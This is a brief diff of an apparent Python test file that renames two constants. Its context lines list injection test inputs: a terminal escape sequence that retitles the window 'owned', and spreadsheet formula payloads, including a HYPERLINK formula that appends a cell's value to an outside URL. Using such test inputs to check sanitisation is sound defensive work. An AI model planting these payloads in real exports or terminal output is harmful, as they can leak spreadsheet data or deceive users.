@@ -31,7 +31,7 @@ ATTACKS = (
     "\x1b[2J\x1b]0;owned\x07",
 )
 FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("https://example.org/?"&A1)', "\t=1", "\uff1d1+1", " =1+1")
-NEAR, ALIKE = "near_matches_to_put_right", "addresses_that_cannot_be_used"
+NEAR, ALIKE = "near_matches", "invalid_emails"
 
 
 @pytest.fixture
